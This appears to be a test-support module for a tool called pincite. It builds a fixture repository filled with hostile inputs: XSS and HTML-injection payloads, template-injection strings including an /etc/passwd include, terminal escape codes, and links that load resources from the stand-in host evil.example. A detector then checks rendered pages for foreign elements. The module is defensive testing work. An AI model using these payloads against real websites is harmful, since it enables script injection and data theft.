"""A repository in which everything is hostile: names, documents, code, papers, output, memories, web pages, answers."""

from __future__ import annotations

import ast
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import yaml

from pincite.core.web import Exchange, Visit
from pincite.safe.files import Root
from pincite.store.warc import Snapshots
from support_pdf import make_pdf

TOP = Path(__file__).resolve().parents[1]
# What runs sets `pwned`; what is taken for an element has the class; what asks for something asks this host.
PAYLOADS = (
    "<script class=evil>window.pwned=1</script>",
    "</script><script class=evil>window.pwned=1</script>",
    "</title></textarea></style></pre><img class=evil src=x onerror=window.pwned=1>",
    "<svg class=evil onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<math class=evil><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<iframe class=evil srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object class=evil data=http://evil.example/o></object><embed class=evil src=http://evil.example/e>",
    "<base class=evil href=http://evil.example/>",
    "<meta class=evil http-equiv=refresh content='0;url=http://evil.example/m'>",
    "<link class=evil rel=stylesheet href=http://evil.example/c.css>",
    "<style class=evil>@import url(http://evil.example/i.css);body{background:url(http://evil.example/b)}</style>",
    "<form class=evil action=http://evil.example/f><button autofocus>x</button></form>",
    "<a class=evil href=javascript:window.pwned=1>x</a><a class=evil href=data:text/html,x>x</a>",
    "<div class=evil hx-get=http://evil.example/h hx-trigger=load hx-on:click=window.pwned=1>x</div>",
    "<div class=evil hx-on::load='window.pwned=1' hx-trigger='load' hx-get='/work'>x</div>",
    "<p class=evil style=position:fixed;inset:0 onmouseover=window.pwned=1>x</p>",
    "<video class=evil poster=http://evil.example/v><source src=x onerror=window.pwned=1></video>",
    "<details class=evil open ontoggle=window.pwned=1>x</details>",
    "<input class=evil autofocus onfocus=window.pwned=1><marquee class=evil onstart=window.pwned=1>",
    "<template class=evil><img src=x onerror=window.pwned=1></template><noscript><p class=evil></noscript>",
    "[x](javascript:window.pwned=1) [y](<vbscript:x>) [z](data:text/html;base64,PHNjcmlwdD4=) <javascript:pwned=1>",
    "![x](http://evil.example/p.png) ![y](javascript:window.pwned=1) [r]: http://evil.example/r",
    "[x](http://evil.example/ 'a\" onmouseover=\"window.pwned=1')",
    "{{7*'7'}} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;img class=evil src=x onerror=window.pwned=1&gt; &#60;b class=evil&#62; &amp;lt;script&amp;gt;",
    "<!-- <b class=evil> --!><img class=evil src=x onerror=window.pwned=1><!--",
    "<![CDATA[<img class=evil src=x onerror=window.pwned=1>]]><?php x ?>",
    "\" onmouseover=window.pwned=1 class=evil x=\"' onmouseover=window.pwned=1 class=evil y='`",
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07\x1b[2J\x07\x9b31m",
    "\u202eevil\u2066 \u200b\u200d\ufeff\u00ad \u0000 \ud7ff \u2028 \u2029 \u0085",
)
NAMES = (
    "<img class=evil src=x onerror=window.pwned=1>",
    '" onmouseover=window.pwned=1 class=evil x="',
    "' onclick='window.pwned=1' class='evil",
    "javascript:window.pwned=1",
    "{{7*'7'}}{% raw %}",
    "a\u202egpj\u200b\x1b[31m",
    "a?b=c&d#e%2e%00+ ;",
    "%3Cb class=evil%3E",
    "x.json",
    "x.html",
    "-o --help",
    "line\nbreak\r\t",
)
"""Names of files; a slash cannot be in them."""
EVALUATED = "7777777"
"""What a template would make of one of them."""


def build_hostile(folder: Path) -> None:
    """Write the repository."""
    (folder / "docs").mkdir(parents=True)
    (folder / "src").mkdir()
    (folder / "pincite.toml").write_text("")
    code = [line.replace("\x00", "\\0") for payload in PAYLOADS for line in payload.splitlines() or [""]]
    for name in NAMES:
        (folder / "src" / f"{name}.py").write_text("\n".join(code) + "\n", encoding="utf-8")
        (folder / "docs" / f"{name}.md").write_text(_write_document(name), encoding="utf-8")
    (folder / "docs" / os.fsdecode(b"\xff\xfe-<b class=evil>.md")).write_text(_write_document("x.json"))
    (folder / "src/plain.py").write_text("LIMIT = 40\n")
    _add_paper(folder)
    _add_output(folder)
    _add_memories(folder)
    _add_research(folder)
    (folder / "response.json").write_text(json.dumps(make_answer()), encoding="utf-8")


def _write_document(name: str) -> str:
    parts = [f"---\ntitle: {json.dumps(PAYLOADS[0])}\n---\n# {PAYLOADS[2]}\n"]
    for number, payload in enumerate(PAYLOADS, 1):
        parts.append(f"{payload} 【F:src/{name}.py†L{number}】 `src/plain.py:1` 【F:src/{payload[:40]}†L1】.\n")
        parts.append(f"> {payload}\n\n- {payload}\n\n| a | b |\n|---|---|\n| {payload} | x |\n")
        parts.append(f"```{payload.splitlines()[0]}\n{payload}\n```\n")
        parts.append(f'"{payload}" [REF-001, p.1] [{payload}][r{number}]\n\n[r{number}]: javascript:window.pwned=1\n')
    return "\n".join(parts)


def _add_paper(folder: Path) -> None:
    texts = [payload for payload in PAYLOADS if payload.isprintable() and payload.isascii()]
    (folder / "paper.pdf").write_bytes(make_pdf(["\n".join(texts)], title=PAYLOADS[0]))
    _run(folder, "corpus", "add", "paper.pdf")


def _add_output(folder: Path) -> None:
    script = folder / "src/print.py"
    script.write_text(f"import sys\nfor line in {PAYLOADS!r}:\n    sys.stdout.buffer.write(line.encode() + b'\\n')\n")
    said = _run(folder, "run", "--cite", "pwned", "--", sys.executable, "src/print.py")
    cited = re.findall(r"【\w+†[^】]*】", said)
    (folder / "docs/output.md").write_text("\n\n".join(f"{PAYLOADS[0]} It ran {one}." for one in cited))


def _add_memories(folder: Path) -> None:
    memories = folder / ".serena/memories"
    memories.mkdir(parents=True)
    for number, payload in enumerate(PAYLOADS[:6]):
        head = {
            "id": f"evil-{number}",
            "subject": payload,
            "citations": [{"path": "src/plain.py", "line": 1, "snippet": payload}],
            "tags": [payload],
        }
        text = yaml.safe_dump(head, allow_unicode=False)
        (memories / f"evil-{number}.md").write_text(f"---\n{text}---\n{payload}\n", encoding="utf-8")


def _add_research(folder: Path) -> None:
    shutil.copytree(TOP / "examples/lanternfish", folder, dirs_exist_ok=True, ignore=shutil.ignore_patterns("pages"))
    topic = folder / ".research/lanternfish"
    for path in (topic / "agent-outputs").glob("*.yaml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for rows in data.values():
            for number, row in enumerate(rows if isinstance(rows, list) else ()):
                # A claim that says more than its quote is not grounded, and a report needs some that are.
                for field in ("page_title", "section", "title", "snippet", *(("claim",) if number in (4, 10) else ())):
                    if field in row:
                        row[field] = f"{row[field]} {PAYLOADS[number % 20]}"
        path.write_text(yaml.safe_dump(data), encoding="utf-8")
    kind = (("Content-Type", "text/html; charset=utf-8"),)
    hostile = "".join(PAYLOADS).replace("</title>", "")
    with Root(str(folder)) as root:
        for page in (TOP / "examples/lanternfish/pages").glob("*.html"):
            text = page.read_text(encoding="utf-8")
            address = re.findall(r'rel="canonical" href="([^"]+)"', text)[0]
            body = text.replace("</body>", f"<p>{hostile}</p></body>").encode()
            visit = Visit(address, "2026-03-02T10:00:00Z", (Exchange(address, 200, "OK", kind, body),))
            Snapshots(root, ".research/lanternfish/snapshots").add(visit)
    for words in (("validate", "lanternfish", "--offline"), ("ground", "lanternfish"), ("report", "lanternfish")):
        _run(folder, "research", *words)


def make_answer() -> dict[str, object]:
    """The output of a model that wants to be more than text."""
    quoted = {"type": "char_location", "document_index": 0, "start_char_index": 0, "end_char_index": 9}
    return {
        "type": "message",
        "role": "assistant",
        "content": [
            {"type": "text", "text": one, "citations": [{**quoted, "cited_text": one, "document_title": one}]}
            for one in PAYLOADS
            if "\x00" not in one
        ],
    }


def _run(folder: Path, *words: str) -> str:
    done = subprocess.run([sys.executable, "-m", "pincite", *words], cwd=folder, capture_output=True)
    assert done.returncode in (0, 1), done.stderr.decode()[-2000:]
    return (done.stdout + done.stderr).decode("utf-8", "replace")


def list_fuzz_seeds() -> list[bytes]:
    """What the fuzzers of the repository begin with."""
    found: list[bytes] = []
    for path in sorted((TOP / "fuzz").glob("fuzz_*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg in ("seeds", "tokens"):
                texts = [one.value for one in ast.walk(node.value) if isinstance(one, ast.Constant)]
                found += [one.encode() for one in texts if isinstance(one, str)]
                found += [one for one in texts if isinstance(one, bytes)]
    assert len(found) > 200
    return found


TAGS = frozenset(
    "html head meta title link script body a header nav strong ul ol li p main footer small h1 h2 h3 h4 h5 h6 table "
    "caption thead tbody tfoot tr th td span div section article aside pre code em b i u mark del ins s blockquote hr "
    "br details summary form label input button select optgroup option textarea fieldset legend dl dt dd figure "
    "figcaption img svg g path rect circle line polyline text desc time progress meter sub sup kbd samp abbr output "
    "search dialog q cite defs marker tspan".split()
)
"""The elements that templates and rendered documents are made of."""
_PLACES = frozenset(("href", "src", "action", "formaction", "hx-get", "hx-post", "poster", "data", "srcset"))
_HTMX = frozenset(("hx-get", "hx-post", "hx-target", "hx-select", "hx-swap", "hx-trigger", "hx-push-url", "hx-include"))
_ONCE = ("base", "iframe", "object", "embed", "style")


def find_foreign(tag: str, attributes: dict[str, str], outside: bool = False) -> list[str]:
    """What about an element is not of our own making; `outside` where links to other sites are let through."""
    problems = []
    if tag not in TAGS or tag in _ONCE:
        problems.append(f"<{tag}>")
    if "evil" in attributes.get("class", "").split():
        problems.append(f"<{tag} class=evil>")
    for name, value in attributes.items():
        if name.startswith(("on", "hx-on")) or name in ("style", "srcdoc") or (name[:3] == "hx-" and name not in _HTMX):
            problems.append(f"<{tag} {name}={value[:80]}>")
        if name in _PLACES and not _is_own(tag, name, value):
            problems.append(f"<{tag} {name}={value[:80]}>")
    if tag == "script" and not attributes.get("src", "").startswith("/assets/"):
        problems.append("<script> of a document")
    if tag == "meta" and "http-equiv" in attributes:
        problems.append("<meta http-equiv>")
    return problems


def _is_own(tag: str, name: str, value: str) -> bool:
    if re.match(r"/(?!/)|#|\?", value) or value == "":
        return True
    # A source on the web may be linked to; nothing is loaded from it.
    return tag == "a" and name == "href" and re.match(r"https?://", value) is not None


class ForeignFinder(HTMLParser):
    """Collects what in a page is not of our own making."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.problems += find_foreign(tag, {name: value or "" for name, value in attributes})

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def find_foreign_elements(html: str) -> list[str]:
    """What in a page is not of our own making."""
    finder = ForeignFinder()
    finder.feed(html)
    finder.close()
    return finder.problems
